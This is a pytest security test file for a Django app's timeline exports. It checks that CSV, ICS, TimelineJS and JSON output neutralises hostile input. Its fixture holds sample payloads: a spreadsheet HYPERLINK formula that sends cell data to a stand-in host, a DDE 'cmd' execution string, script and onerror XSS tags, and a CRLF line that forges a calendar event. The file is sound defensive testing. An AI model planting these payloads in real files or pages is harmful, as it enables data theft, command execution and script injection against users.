"""Exports carry hostile text as data: no formula, no markup, no forged calendar lines."""

import csv
import io
import json

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.factories import ArticleFactory, CitationFactory, EventFactory, StoryFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile_story():
    story = StoryFactory(slug="hostile-export", title="<b>Story</b>")
    article = ArticleFactory(
        story=story,
        title="@SUM(1+1)",
        body="On October 18, <script>alert(1)</script> the minister met the ambassador. More.",
    )
    event = EventFactory(
        story=story,
        title=f"{FORMULA}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
        summary="<img src=x onerror=alert(1)> +cmd|' /C calc'!A0",
    )
    CitationFactory(event=event, article=article)
    return story


def export(client, story, fmt):
    return client.get(reverse("timeline:export", args=[story.slug, fmt]))


def test_csv_export_neutralises_formulas(client, hostile_story):
    response = export(client, hostile_story, "csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells


def test_ics_export_cannot_be_given_extra_events(client, hostile_story):
    body = export(client, hostile_story, "ics").content.decode()
    assert body.count("BEGIN:VEVENT") == 1
    assert "\r\nSUMMARY:forged" not in body


def test_timelinejs_export_escapes_markup(client, hostile_story):
    data = json.loads(export(client, hostile_story, "timelinejs").content)
    text = json.dumps(data)
    assert "<script>" not in text
    assert "<img src=x" not in text
    assert "&lt;img" in text or "\\u0026lt;img" in text


def test_json_export_is_served_as_json_not_html(client, hostile_story):
    response = export(client, hostile_story, "json")
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    fmt=st.one_of(st.sampled_from(["json", "timelinejs", "ics", "csv"]), st.text(max_size=12)),
    params=st.dictionaries(
        st.sampled_from(["from", "to", "q", "source", "status", "granularity", "x"]),
        st.text(max_size=30),
        max_size=4,
    ),
)
def test_export_never_fails_on_any_format_or_parameters(seed_story, client, fmt, params):
    path = f"/stories/{seed_story.slug}/export.{fmt}"
    assert client.get(path, params).status_code < 500
